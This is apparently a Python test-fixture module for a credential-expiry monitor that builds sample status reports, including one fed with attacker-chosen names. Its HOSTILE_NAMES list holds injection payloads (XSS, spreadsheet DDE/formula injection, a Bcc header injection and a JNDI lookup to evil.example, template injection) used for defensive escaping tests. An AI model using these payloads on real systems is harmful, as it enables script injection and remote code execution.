"""Realistic StatusReports: a bad morning, a quiet one, an empty store, a big one, a hostile one."""

from __future__ import annotations

import zlib
from collections import Counter
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta

from monitor.model import (
    OPERATOR,
    ArrivalNews,
    ArrivalState,
    CanaryResult,
    Credential,
    CredentialRef,
    Kind,
    Mail,
    MailKind,
    ObjectType,
    OutboxCounts,
    OutboxMail,
    OutboxState,
    Probe,
    SenderHealth,
    Slot,
    Snooze,
    Tenant,
    TenantHealth,
)
from monitor.status import Facts, StatusReport, build_report

NOW = datetime(2026, 11, 23, 6, 4, tzinfo=UTC)  # 07:04 in Berlin
NEVER_ENDS = datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC)
SCAN_EVERY = timedelta(hours=6)
REPLY_535 = (
    "535 5.7.139 Authentication unsuccessful, SmtpClientAuthentication is disabled for the "
    "Tenant. Visit https://aka.ms/smtp_auth_disabled for more information. "
    "[FR0P281CA0154.DEUP281.PROD.OUTLOOK.COM 2026-11-23T06:00:03.114Z 08DE2A1F5B0C7D11]"
)
HOSTILE_NAMES = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title></style></table><h1>owned</h1>",
    '=HYPERLINK("http://evil.example","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "＝1+1",
    "\t=1+1",
    "\r=1+1",
    "line one\r\nBcc: x@evil.example",
    "nul\x00in\x1b[2Jthe middle",
    "\u202egnp.exe\u2066 moved \u200b\ufeff",
    "half a pair \ud800",
    "{{7*7}}{% raw %}${jndi:ldap://evil.example}%s%n",
    "👩\u200d💻 سلام شركة",
    "x" * 10_000,
)


def tenant(name: str, **more: object) -> Tenant:
    """A tenant with every default; keywords replace its fields."""
    plain = Tenant(
        name=name,
        directory_id=f"{hash_of(name):08x}-1111-4222-8333-944444444444",
        cloud="global",
        client_id="5d0a0000-0000-4000-8000-000000000001",
        credential=CredentialRef("secret", f"file:secrets/{name}"),
        time_zone="Europe/Berlin",
    )
    return replace(plain, **more)  # type: ignore[arg-type]


def hash_of(text: str) -> int:
    """A small stable number for a name; Python's own hash differs from run to run."""
    return zlib.crc32(text.encode("utf-8", "replace"))


def credential(owner: str, app: str, number: int, days: float | None, **more: object) -> Credential:
    """A secret of `app` that ends `days` after NOW, or never; keywords replace its fields."""
    plain = Credential(
        tenant=owner,
        uid=f"{app}/secret/{number}",
        object_type=ObjectType.APPLICATION,
        object_id=f"0b{hash_of(app):010x}",
        app_id=f"{hash_of(app):08x}-aaaa-4bbb-8ccc-dddddddddddd",
        app_name=app,
        kind=Kind.SECRET,
        key_id=f"{number:08x}-7777-4888-8999-aaaaaaaaaaaa",
        name="main",
        start=NOW - timedelta(days=300),
        end=None if days is None else NOW + timedelta(days=days),
        owners=(f"owner@{owner}.example",),
        observed_at=NOW - timedelta(minutes=42),
        first_seen=NOW - timedelta(days=200),
    )
    return replace(plain, **more)  # type: ignore[arg-type]


def health(name: str, hours: float, **more: object) -> TenantHealth:
    """A tenant whose last complete scan was `hours` ago."""
    at = NOW - timedelta(hours=hours)
    return replace(TenantHealth(name, last_complete=at, last_attempt=at), **more)  # type: ignore[arg-type]


def sender(
    owner: str,
    result: CanaryResult,
    *,
    hours: float = 0.1,
    last_ok: float | None = 0.1,
    stage: str = "data",
    cause: str = "ok",
    evidence: str = "250 2.0.0 OK <0412@contoso.example> [Hostname=FR0P281MB2555.example]",
) -> SenderHealth:
    """A sender that was tested `hours` ago and was last good `last_ok` hours ago."""
    at = NOW - timedelta(hours=hours)
    mailbox = f"noreply@{owner.strip('()')}.example"
    probe = Probe(owner, mailbox, at - timedelta(seconds=2.4), at, result, stage, cause, evidence)
    good = None if last_ok is None else NOW - timedelta(hours=last_ok)
    return SenderHealth(owner, mailbox, last=probe, last_ok=good)


def mail(number: int, subject: str, *, path: str, state: OutboxState, **more: object) -> OutboxMail:
    """A row of the outbox, written a quarter of an hour ago."""
    plain = OutboxMail(
        id=str(number),
        mail=Mail(MailKind.REMINDER, subject, "text", "<p>html</p>"),
        recipient="it@fabrikam.example",
        tenants=("fabrikam",),
        path=path,
        message_id=f"<{number}@lapsewatch.example>",
        date=NOW - timedelta(minutes=15),
        state=state,
    )
    return replace(plain, **more)  # type: ignore[arg-type]


def facts(
    tenants: Sequence[Tenant] = (),
    credentials: Sequence[Credential] = (),
    healths: Sequence[TenantHealth] = (),
    senders: Sequence[SenderHealth] = (),
    snoozes: Sequence[Snooze] = (),
    outbox: Sequence[OutboxMail] = (),
    **more: object,
) -> Facts:
    """Facts as the store gives them, with a service that lives; keywords replace them."""
    proven = ArrivalNews(ArrivalState.PROVEN, "graph", 4.0)
    plain = Facts(
        tenants=tenants,
        credentials=credentials,
        health={one.tenant: one for one in healths},
        senders=[(one.tenant, one.mailbox) for one in senders],
        sender_health={(one.tenant, one.mailbox): one for one in senders if one.last},
        snoozes={(one.tenant, one.uid, one.life): one for one in snoozes},
        outbox=counts(outbox),
        mails=outbox,
        beats=beats(),
        scan_every=SCAN_EVERY,
        known_since={one.name: NOW - timedelta(hours=5) for one in tenants},
        arrivals={(one.tenant, one.mailbox): proven for one in senders if one.last},
    )
    return replace(plain, **more)  # type: ignore[arg-type]


def beats(**ago: timedelta) -> dict[str, datetime]:
    """Signs of life of a service that works; keywords say how long ago one of them was."""
    parts = ("scheduler", "scan", "canary", "arrival", "warn", "deliver")
    usual = dict.fromkeys(parts, timedelta(seconds=20))
    return {
        name: NOW - age for name, age in (usual | {"scan": timedelta(minutes=42)} | ago).items()
    }


def counts(outbox: Sequence[OutboxMail]) -> OutboxCounts:
    """The numbers of an outbox that is listed whole."""
    kinds = Counter(
        str(one.state) if one.path or one.state is OutboxState.DEAD else "without_path"
        for one in outbox
    )
    return OutboxCounts(**kinds, overdue=sum(one.is_overdue(NOW) for one in outbox))


def slot(job: str, scope: str, minutes: float) -> Slot:
    """A run that was first begun so many minutes ago, on time, and not finished since."""
    at = NOW - timedelta(minutes=minutes)
    return Slot(job, scope, at, "host:1", at, at + timedelta(minutes=10))


def bad_morning() -> StatusReport:
    """Everything that can be the matter, as on the first page of the demo."""
    names = ("contoso", "fabrikam", "adatum", "tailspin", "wingtip", "northwind", "litware")
    tenants = [tenant(name) for name in names]
    tenants += [tenant("proseware", paused=True), tenant("trey")]
    healths = [health(name, 0.7) for name in ("contoso", "fabrikam", "adatum", "litware")]
    healths += [
        health("tailspin", 52, failures=5, last_failed_definitely=True, cause="consent_missing",
               last_attempt=NOW - timedelta(minutes=42),
               problem="The token endpoint refused: AADSTS65001, consent is missing."),
        health("wingtip", 17.5),
        health("northwind", 6.7, failures=1, last_incomplete=True, cause="malformed_page",
               last_attempt=NOW - timedelta(minutes=42),
               problem="Page 3 of applications ended in the middle."),
        TenantHealth("trey", last_attempt=NOW - timedelta(minutes=42), failures=2,
                     last_failed_definitely=True, cause="expired_secret",
                     problem="AADSTS7000222: the secret has expired."),
    ]  # fmt: skip
    return build_report(
        facts(tenants, _credentials(), healths, _senders(), _snoozes(), _outbox()), now=NOW
    )


def _credentials() -> list[Credential]:
    day = timedelta(days=1)
    return [
        credential("fabrikam", "Backup SMTP", 1, -1.2, name="prod 2025", owners=()),
        credential("contoso", "Payroll export", 2, 5.1, owners=("dana@contoso.example",)),
        credential("contoso", "Lapsewatch reader", 3, 6.4, own=True, owners=None),
        credential("adatum", "Salesforce SSO", 4, 11, kind=Kind.SAML_SIGNING, active=True,
                   object_type=ObjectType.SERVICE_PRINCIPAL,
                   name="CN=Microsoft Azure Federated SSO"),
        credential("adatum", "Invoice robot", 5, 20, kind=Kind.CERTIFICATE, name=None, owners=(
            "a@adatum.example", "b@adatum.example", "c@adatum.example", "d@adatum.example")),
        credential("tailspin", "Door controller", 6, 2.5, observed_at=NOW - timedelta(hours=52)),
        credential("contoso", "Intranet", 7, 3, name="old"),
        credential("contoso", "Intranet", 8, 360, name="new", start=NOW - 4 * day),
        credential("contoso", "Ticket sync", 9, 41),
        credential("fabrikam", "Legacy scanner", 10, 9, name="printer on floor 3"),
        credential("litware", "Data lake", 11, 400),
        credential("litware", "Forever", 12, None, end=NEVER_ENDS),
        credential("litware", "No end", 13, None),
        credential("wingtip", "CRM link", 14, 200, observed_at=NOW - timedelta(hours=17.5)),
        credential("litware", "vm-backup-01", 15, 12, kind=Kind.CERTIFICATE, managed_identity=True,
                   object_type=ObjectType.SERVICE_PRINCIPAL, owners=None, name=None),
        credential("litware", "Old mailer", 16, 80, removed_at=NOW - 3 * day),
    ]  # fmt: skip


def _senders() -> list[SenderHealth]:
    return [
        sender("contoso", CanaryResult.OK),
        sender("fabrikam", CanaryResult.FAILED, last_ok=24.1, stage="auth",
               cause="smtp_auth_disabled_tenant", evidence=REPLY_535),
        sender("adatum", CanaryResult.OK, hours=50, last_ok=50),
        sender("litware", CanaryResult.UNCONFIRMED, last_ok=23, stage="data", cause="reply_timeout",
               evidence="No answer to the end of DATA within 60 s."),
        sender(OPERATOR, CanaryResult.OK),
        SenderHealth("trey", "noreply@trey.example"),
    ]  # fmt: skip


def _snoozes() -> list[Snooze]:
    return [
        Snooze("fabrikam", "Legacy scanner/secret/10", 1, "kim@msp.example",
               "The scanner goes to scrap on Friday.", NOW - timedelta(days=2),
               until=NOW + timedelta(days=6))
    ]  # fmt: skip


def _outbox() -> list[OutboxMail]:
    return [
        mail(1, '[Lapsewatch] LAPSED: "Backup SMTP" secret expired yesterday - fabrikam',
             path="", state=OutboxState.PENDING),
        mail(2, "[Lapsewatch] ACTION: 2 secrets need renewal - contoso", path="tenant:contoso",
             state=OutboxState.PENDING, attempt=1, last_error="421 4.3.2 Service not available"),
        mail(3, "[Lapsewatch] ACTION: 1 certificate - adatum", path="tenant:adatum",
             state=OutboxState.DEAD, attempt=1, recipient="gone@adatum.example",
             last_error="550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found"),
    ]  # fmt: skip


def stalled_morning() -> StatusReport:
    """All tenants are well, and the work is not done: mails, runs and a job are stuck."""
    names = ("contoso", "fabrikam")
    refused = "421 4.3.2 Service not available, closing transmission channel"
    mails = [
        mail(1, "[Lapsewatch] ACTION: 2 secrets - contoso", path="tenant:contoso", attempt=6,
             state=OutboxState.PENDING, date=NOW - timedelta(hours=3), last_error=refused),
        mail(2, "[Lapsewatch] ACTION: 1 secret - fabrikam", path="tenant:fabrikam",
             state=OutboxState.PENDING, date=NOW - timedelta(hours=2)),
        mail(3, "[Lapsewatch] RESOLVED - fabrikam", path="tenant:fabrikam",
             state=OutboxState.PENDING),
    ]  # fmt: skip
    known = facts(
        [tenant(name) for name in names],
        healths=[health(name, 2) for name in names],
        senders=[
            sender("contoso", CanaryResult.OK),
            SenderHealth("fabrikam", "m@fabrikam.example"),
        ],
        outbox=mails,
        known_since={"contoso": NOW - timedelta(days=9), "fabrikam": NOW - timedelta(hours=27)},
        beats=beats(canary=timedelta(hours=20)),
        runs={"it@contoso.example|Europe/Berlin", "it@fabrikam.example|Europe/Berlin"},
        unfinished=[
            slot("warn", "it@contoso.example|Europe/Berlin", 64),
            slot("warn", "it@fabrikam.example|Europe/Berlin", 63),
            slot("scan", "fabrikam", 46),
            slot("canary", "tenant:fabrikam", 55),
        ],
    )
    return build_report(known, now=NOW)


def quiet_morning() -> StatusReport:
    """Three tenants, all read, all proven, nothing to do."""
    names = ("contoso", "fabrikam", "adatum")
    return build_report(
        facts(
            [tenant(name) for name in names],
            [credential(name, "Intranet", n, 200 + n) for n, name in enumerate(names)],
            [health(name, 0.7) for name in names],
            [sender(name, CanaryResult.OK) for name in names],
        ),
        now=NOW,
    )


def empty_store() -> StatusReport:
    """What a newcomer sees before the first import."""
    return build_report(facts(), now=NOW)


def many(count: int = 1000, *, days: float = 20) -> StatusReport:
    """`count` credentials in 50 tenants, all with `days` left."""
    names = [f"customer-{n:03}" for n in range(50)]
    rows = [credential(names[n % 50], f"App {n}", n, days + n % 9 / 10) for n in range(count)]
    return build_report(
        facts([tenant(n) for n in names], rows, [health(n, 0.7) for n in names]), now=NOW
    )


def hostile() -> StatusReport:
    """Every text that somebody outside can choose is an attack, in every place that shows it."""
    names = [tenant(name) for name in HOSTILE_NAMES]
    days = (-1.0, 3.0, 20.0, 45.0, 300.0)
    rows = [
        credential(
            bad, bad, n, days[n % 5], name=bad, owners=(bad,), key_id=bad,
            object_id=f"object {n}", uid=f"uid {n}",
        )
        for n, bad in enumerate(HOSTILE_NAMES)
    ]  # fmt: skip
    healths = [
        health(bad, 30, failures=2, last_failed_definitely=True, cause=bad, problem=bad)
        if n % 2
        else health(bad, 0.5)
        for n, bad in enumerate(HOSTILE_NAMES)
    ]
    senders = [
        sender(bad, CanaryResult.FAILED, stage=bad, cause=bad, evidence=bad)
        for bad in HOSTILE_NAMES
    ]
    outbox = [
        mail(n, bad, path="", state=OutboxState.DEAD, recipient=bad, last_error=bad)
        for n, bad in enumerate(HOSTILE_NAMES)
    ]
    snoozes = [Snooze(HOSTILE_NAMES[2], "uid 2", 1, HOSTILE_NAMES[0], HOSTILE_NAMES[1], NOW)]
    return build_report(facts(names, rows, healths, senders, snoozes, outbox), now=NOW)
